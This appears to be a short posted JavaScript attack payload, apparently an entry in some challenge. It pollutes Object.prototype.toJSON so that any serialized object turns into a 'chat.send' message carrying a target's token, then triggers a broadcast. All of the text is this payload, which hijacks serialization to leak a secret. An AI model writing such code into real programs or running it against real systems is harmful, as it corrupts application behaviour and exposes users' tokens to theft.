// posted: toJSON on Object.prototype: another call
Object.prototype.toJSON = function () { return { call: "chat.send", text: target.token }; };
onGo(() => void ui.broadcast("x"));
